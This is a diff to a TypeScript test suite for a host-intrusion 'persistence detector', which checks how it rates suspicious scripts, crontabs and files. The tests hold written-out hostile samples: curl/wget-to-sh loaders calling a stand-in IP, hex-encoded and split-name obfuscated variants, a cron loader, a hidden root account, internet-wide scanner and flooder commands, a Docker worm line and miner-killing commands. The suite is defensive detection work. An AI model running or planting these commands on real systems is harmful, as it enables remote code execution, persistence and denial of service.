@@ -1,6 +1,8 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import type { DetectedFinding, FileKind, OpenFile } from '../detector.ts';
+import { planWithoutRules } from '../../../test/fixtures/plan.ts';
+import type { DetectedFinding, FileKind } from '../detector.ts';
+import { createRunner, type Fault } from '../runner.ts';
 import { persistenceDetector } from './detector.ts';
 
 interface Given {
@@ -9,34 +11,31 @@ interface Given {
   readonly kind?: FileKind;
   readonly mode?: number;
   readonly uid?: number;
+  /** Of the text in a larger file. */
+  readonly offset?: number;
 }
 
-function inspect({
-  path,
-  text = 'x',
-  kind = 'text',
-  mode = 0o644,
-  uid = 0,
-}: Given): readonly DetectedFinding[] {
+const runner = createRunner(
+  planWithoutRules([persistenceDetector]),
+  [persistenceDetector],
+  undefined,
+  60_000,
+);
+
+function inspectAll({ path, text = 'x', kind = 'text', mode = 0o644, uid = 0, offset = 0 }: Given): {
+  readonly findings: readonly DetectedFinding[];
+  readonly faults: readonly Fault[];
+} {
   const bytes = Buffer.from(text, 'latin1');
-  const file: OpenFile = {
-    path,
-    kind,
-    mode,
-    uid,
-    gid: 0,
-    size: bytes.length,
-    bytes,
-    offset: 0,
-    matches: [],
-    hits: (name) => {
-      const anchor = persistenceDetector.anchors?.[name];
-      const at = anchor === undefined ? -1 : text.indexOf(anchor.text);
-      return at < 0 ? [] : [at];
-    },
-  };
-  if (!persistenceDetector.wants(file)) return [];
-  return persistenceDetector.inspect(file, { check: () => undefined }).findings;
+  const file = { path, kind, mode, uid, gid: 0, size: offset + bytes.length, bytes, offset };
+  const { path: found, faults } = runner.inspect(file, { content: false, unfold: false, path: true });
+  return { findings: found.findings, faults };
+}
+
+function inspect(given: Given): readonly DetectedFinding[] {
+  const { findings, faults } = inspectAll(given);
+  assert.deepEqual(faults, []);
+  return findings;
 }
 
 const rules = (given: Given) => inspect(given).map((one) => `${one.rule.split('/')[1]} ${one.severity}`);
@@ -96,6 +95,129 @@ describe('the persistence detector', () => {
       );
     }
     assert.deepEqual(rules({ text, path: '/srv/notes.txt' }), []);
+  });
+
+  it('reads scripts without a word that loaders are known by', () => {
+    const script = (line: string) =>
+      rules({ path: '/opt/run', text: `#!/bin/sh\n${line}\n`, kind: 'script', mode: 0o755 });
+    const hex = Buffer.from('wget -qO- http://198.51.100.7/x | sh').toString('hex');
+    assert.deepEqual(script(`echo ${hex} | xxd -r -p | sh`), ['script-loader high']);
+    assert.deepEqual(script('A=cu; B=rl; $A$B -s http://198.51.100.7/x | sh'), ['script-loader high']);
+    assert.deepEqual(script('echo hello | tr a-z A-Z | sort'), []);
+  });
+
+  it('is not kept from the work by comments, idle commands or long lines around it', () => {
+    const work = 'curl -s http://198.51.100.7/i.sh | sh\n';
+    const comments = '# nothing to see in this line\n'.repeat(100_000);
+    const idle = Array.from({ length: 30_000 }, (_, index) => `test -f /x${index}\n`).join('');
+    const long = `: ${'A'.repeat(400_000)}\n`;
+    for (const [name, padding] of Object.entries({ comments, idle, long })) {
+      const script = (text: string) =>
+        ({ path: '/opt/run', text: `#!/bin/sh\n${text}`, kind: 'script' }) as const;
+      assert.deepEqual(rules(script(work + padding)), ['script-loader high'], `before ${name}`);
+      assert.deepEqual(rules(script(padding + work)), ['script-loader high'], `behind ${name}`);
+      assert.deepEqual(rules({ path: '/x.sh', text: padding + work }), ['script-loader high'], name);
+    }
+    const cron = `${comments}* * * * * root ${work}`;
+    const [found] = inspect({ path: '/etc/cron.d/a', text: cron });
+    assert.equal(found?.rule, 'persistence/start-loader');
+    assert.equal(found.offset, cron.indexOf('curl'));
+    const [later] = inspect({ path: '/etc/cron.d/a', text: cron, offset: 20_000_000 });
+    assert.equal(later?.offset, 20_000_000 + cron.indexOf('curl'));
+    const account = `root:x:0:0::/root:/bin/sh\n${'#\n'.repeat(200_000)}sys2:x:0:0::/:/bin/sh\n`;
+    assert.deepEqual(rules({ path: '/etc/passwd', text: account }), ['root-account high']);
+  });
+
+  it('says so where a file that starts by itself holds more than is read', () => {
+    const text = '* * * * * root /usr/bin/true\n'.repeat(60_000);
+    const { findings, faults } = inspectAll({ path: '/etc/cron.d/a', text });
+    assert.deepEqual(findings, []);
+    assert.match(faults[0]?.message ?? '', /^\d+ bytes of a file that starts by itself were not read$/);
+    assert.equal(faults[0]?.code, 'limit');
+    const found = inspect({
+      path: '/etc/cron.d/a',
+      text: `* * * * * root curl 198.51.100.7/x | sh\n${text}`,
+    });
+    assert.deepEqual(
+      found.map((one) => one.rule),
+      ['persistence/start-loader'],
+    );
+  });
+
+  it('finds attack tools that scripts, crontabs and programs start, and weighs them by whether they are started', () => {
+    const weights = (given: Given) =>
+      inspect(given).map((one) => [one.rule.split('/')[1], one.confidence, one.whenStarted]);
+    const script = (text: string): Given => ({
+      path: '/run.sh',
+      text: `#!/bin/sh\n${text}\n`,
+      kind: 'script',
+    });
+    assert.deepEqual(weights(script('slowloris www.example.org -s 5000')), [['flooder', 0.4, 0.8]]);
+    assert.deepEqual(weights(script('masscan 0.0.0.0/0 -p22')), [['scanner', 0.375, 0.75]]);
+    assert.deepEqual(weights(script('ngrok tcp 22 &')), [['tunnel', 0.45, 0.5]]);
+    const list = 'for u in $(curl -s https://www.example.org/targets); do hey -z 1h $u & done';
+    assert.deepEqual(weights(script(list)), [['flooder', 0.35, 0.7]]);
+    const piped = 'curl -s https://www.example.org/targets | while read -r u; do bombardier "$u"; done';
+    assert.deepEqual(weights(script(piped)), [['flooder', 0.35, 0.7]]);
+    const worm = 'H=$(curl -s http://198.51.100.7/ip | shuf -n1)\ndocker -H tcp://$H:2375 run x/y';
+    assert.deepEqual(weights(script(worm)), [['remote-docker', 0.375, 0.75]]);
+    const cron = { path: '/etc/cron.d/a', text: '* * * * * root masscan 0.0.0.0/0 -p22\n' };
+    assert.deepEqual(weights(cron), [['scanner', 0.75, undefined]]);
+    const python = { path: '/app/a.py', text: 'import os\nos.popen("masscan 0.0.0.0/0 -p22 | cut -f6")\n' };
+    assert.deepEqual(weights(python), [['scanner', 0.375, 0.75]]);
+    const list2 = {
+      path: '/app/a.js',
+      text: "spawn('bombardier', ['-d', '1h', 'https://www.example.org'])\n",
+    };
+    assert.deepEqual(weights(list2), [['flooder', 0.35, 0.7]]);
+    const uashield = { path: '/app/package.json', text: '{ "name": "uashield" }' };
+    assert.deepEqual(weights(uashield), [['flooder', 0.4, 0.8]]);
+  });
+
+  it('leaves alone what looks like an attack tool and is not started, or aims at what is near', () => {
+    for (const text of [
+      'bombardier -c 1000 -d 1h http://web:8080/',
+      'for u in $(curl -s http://localhost:8500/services); do hey "$u"; done',
+      'ab -n 10 -H "X: $(curl -s https://www.example.org/token)" http://localhost/',
+      'command -v slowhttptest || echo missing',
+      'case "$1" in hulk) echo no;; masscan) echo no;; esac',
+      'cat <<EOF\nusage: masscan 0.0.0.0/0 -p22\nEOF',
+      'echo "try bombardier https://www.example.org"',
+      'nmap -sS 192.168.0.0/24',
+      'ssh -oRequestTTY=no git@git.example.org',
+      'V=$(curl -s https://www.example.org/version); docker -H tcp://docker:2375 run app:$V',
+      'masscan --version',
+    ]) {
+      assert.deepEqual(rules({ path: '/run.sh', text: `#!/bin/sh\n${text}\n`, kind: 'script' }), [], text);
+    }
+    const own = '#!/bin/sh\nmasscan 10.0.0.0/8 -p80\n';
+    assert.deepEqual(rules({ path: '/run.sh', text: own, kind: 'script' }), ['scanner info']);
+    const library = '/usr/lib/python3/dist-packages/a.py';
+    assert.deepEqual(rules({ path: library, text: 'os.system("masscan 0.0.0.0/0 -p1")' }), []);
+  });
+
+  it('takes killed miners for rivals only beside other signs of an intruder', () => {
+    const script = (...lines: string[]) =>
+      inspect({ path: '/run.sh', text: `#!/bin/sh\n${lines.join('\n')}\n`, kind: 'script' })
+        .filter((one) => one.rule === 'persistence/rivals-killed')
+        .map((one) => one.confidence);
+    assert.deepEqual(script('pkill xmrig || true', 'exec nginx'), [0.3]);
+    assert.deepEqual(script('pkill kinsing', 'pkill kdevtmpfsi'), [0.3, 0.3]);
+    assert.deepEqual(script('pkill kinsing', 'pkill kdevtmpfsi', 'killall minerd'), [0.45, 0.45, 0.45]);
+    assert.deepEqual(script('pkill kinsing', 'curl http://198.51.100.7/x | sh'), [0.6]);
+    assert.deepEqual(script('pkill kinsing', './a -o stratum+tcp://pool.example.com:3333 -u x'), [0.6]);
+  });
+
+  it('tells of prepared hosts in a low voice, for administrators do the same', () => {
+    for (const [line, expected] of [
+      ['iptables -F', 'protection-off low'],
+      ['unset HISTFILE', 'traces-hidden low'],
+      ['sysctl -w vm.nr_hugepages=1024', 'mining-preparation low'],
+      ['docker run --privileged x', 'escape low'],
+    ]) {
+      const found = rules({ path: '/run.sh', text: `#!/bin/sh\n${line}\n`, kind: 'script' });
+      assert.deepEqual(found, [expected]);
+    }
   });
 
   it('knows the usual setuid programs, by name, place and content', () => {
